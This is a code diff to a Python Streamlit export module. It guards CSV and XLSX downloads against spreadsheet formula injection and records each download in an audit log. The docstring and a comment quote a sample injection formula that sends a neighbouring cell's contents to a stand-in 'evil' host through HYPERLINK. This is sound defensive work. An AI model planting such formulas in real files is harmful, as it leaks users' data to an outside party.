@@ -1,14 +1,29 @@
-"""Results as downloadable files: CSV, Parquet, XLSX (ids kept as text, times as UTC without a zone)."""
+"""Results as downloadable files: CSV, Parquet, XLSX (ids kept as text, times as UTC without a zone).
+
+Public posts are untrusted text. A spreadsheet may treat a cell that begins with `=`, `+`, `-`, `@`, a tab or a
+carriage return as a formula: `=HYPERLINK("http://evil/?"&A1,"click")` in a post would become a live link that
+leaks the cell beside it. CSV and XLSX files therefore get OWASP's guard (CSV injection): such text (also behind
+leading spaces, and the full-width forms) is prefixed with a single quote, so the spreadsheet shows it as text;
+in XLSX openpyxl writes it as a string cell, never a formula (openpyxl turns any string starting with `=` into
+one). Numbers stay numbers, and text that is only a number (`-5`, `+1.5e3`) cannot run and is left alone.
+Parquet is data, not a spreadsheet: it keeps the original text.
+"""
 
 from __future__ import annotations
 
+import decimal
 import functools
 import io
+import logging
+import re
+from collections.abc import Callable
 
+import numpy as np
 import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import streamlit as st
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 FORMATS = {
     "CSV": ("csv", "text/csv"),
@@ -16,11 +31,42 @@ FORMATS = {
     "XLSX": ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
 }
 XLSX_MAX_ROWS = 1_048_575
+# OWASP's list, and the full-width forms that some spreadsheets (Excel with a Japanese input method) also take
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+GUARD = "'"
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+Recorder = Callable[[str, int], None]  # (format, rows) -> None; raises if the download cannot be recorded
+log = logging.getLogger(__name__)
+
+
+def guard_text(value: object) -> object:
+    """`value` with OWASP's quote in front when a spreadsheet could read it as a formula; anything else as is.
+
+    Leading spaces and line feeds are looked past: some importers trim them before deciding.
+    """
+    if not isinstance(value, str):
+        return value
+    start = value.lstrip(" \n")
+    return GUARD + value if start.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(start) else value
+
+
+def formula_safe(frame: pd.DataFrame) -> pd.DataFrame:
+    """Every text cell and column name guarded; numeric, time and boolean columns untouched."""
+    out = frame.rename(columns=guard_text)
+    for i in range(out.shape[1]):
+        series = out.iloc[:, i]
+        if isinstance(series.dtype, pd.CategoricalDtype):
+            series = series.astype(object)
+        if series.dtype == object or isinstance(series.dtype, pd.StringDtype):
+            out.isetitem(i, series.map(guard_text))
+    return out
 
 
 def to_bytes(frame: pd.DataFrame, fmt: str) -> bytes:
     if fmt == "CSV":
-        return frame.to_csv(index=False).encode("utf-8")
+        # CRLF line ends (RFC 4180) also make the writer quote a field holding a lone carriage return, which
+        # spreadsheets read as a new row: "hi\r=HYPERLINK(…)" would otherwise start a row with a formula
+        return formula_safe(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")
     if fmt == "Parquet":
         sink = io.BytesIO()
         pq.write_table(pa.Table.from_pandas(frame, preserve_index=False), sink)
@@ -28,29 +74,59 @@ def to_bytes(frame: pd.DataFrame, fmt: str) -> bytes:
     if len(frame) > XLSX_MAX_ROWS:
         raise ValueError(f"XLSX holds at most {XLSX_MAX_ROWS:,} rows; download CSV or Parquet instead")
     sink = io.BytesIO()
-    _spreadsheet_safe(frame).to_excel(sink, index=False, engine="openpyxl")
+    formula_safe(_spreadsheet_safe(frame)).to_excel(sink, index=False, engine="openpyxl")
     return sink.getvalue()
 
 
 def _spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
-    """Lists and structs as text; zone-aware times as naive UTC (Excel has no time zones)."""
+    """Lists and structs as text; zone-aware times as naive UTC (Excel has no time zones); control characters
+    that XLSX cannot hold (openpyxl refuses them) as U+FFFD, so one odd post does not stop the export."""
     out = frame.copy()
-    for column in out.columns:
-        series = out[column]
+    for i in range(out.shape[1]):
+        series = out.iloc[:, i]
         if isinstance(series.dtype, pd.DatetimeTZDtype):
-            out[column] = series.dt.tz_convert("UTC").dt.tz_localize(None)
-        elif series.dtype == object:
-            out[column] = series.map(lambda v: v if v is None or isinstance(v, str | int | float) else str(
-                v.tolist() if hasattr(v, "tolist") else v))
+            out.isetitem(i, series.dt.tz_convert("UTC").dt.tz_localize(None))
+        elif series.dtype == object or isinstance(series.dtype, pd.StringDtype):
+            out.isetitem(i, series.map(_cell))
     return out
 
 
-def download_buttons(frame: pd.DataFrame, stem: str, key: str) -> None:
-    """One button per format; a file is built only when its button is clicked."""
+def _cell(value: object) -> object:
+    if isinstance(value, np.generic):
+        value = value.item()
+    if value is None or value is pd.NA or value is pd.NaT or isinstance(value, int | float | decimal.Decimal):
+        return value
+    if not isinstance(value, str):
+        value = str(value.tolist() if hasattr(value, "tolist") else value)
+    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
+
+
+def recorded(frame: pd.DataFrame, fmt: str, record: Recorder) -> bytes:
+    """The file, built when its button is clicked, and recorded in the audit log before it is handed over.
+
+    Streamlit calls this (the button's deferred `data`) each time the browser asks for the file, on a thread of
+    its own: that is an actual download attempt, and only one that produced a file. A button's `on_click`
+    callback would also fire when building the file failed, and would rerun the page for nothing. If the
+    download cannot be recorded, there is no file: the browser shows "Failed to generate file for download" and
+    the reason goes to the dashboard's log (nothing on this thread can reach the page).
+    """
+    data = to_bytes(frame, fmt)
+    try:
+        record(fmt, len(frame))
+    except Exception:
+        log.warning("a %s download of %d rows was refused: it could not be recorded in the audit log", fmt,
+                    len(frame), exc_info=True)
+        raise
+    return data
+
+
+def download_buttons(frame: pd.DataFrame, stem: str, key: str, record: Recorder) -> None:
+    """One button per format; a file is built, and `record`ed, only when its button is clicked."""
     columns = st.columns(len(FORMATS))
     for column, (fmt, (ext, mime)) in zip(columns, FORMATS.items(), strict=True):
         if fmt == "XLSX" and len(frame) > XLSX_MAX_ROWS:
             column.caption(f"XLSX holds at most {XLSX_MAX_ROWS:,} rows")
             continue
-        column.download_button(f"Download {fmt}", functools.partial(to_bytes, frame, fmt), file_name=f"{stem}.{ext}",
-                               mime=mime, key=f"{key}-{fmt}", icon=":material/download:", on_click="ignore")
+        column.download_button(f"Download {fmt}", functools.partial(recorded, frame, fmt, record),
+                               file_name=f"{stem}.{ext}", mime=mime, key=f"{key}-{fmt}",
+                               icon=":material/download:", on_click="ignore")
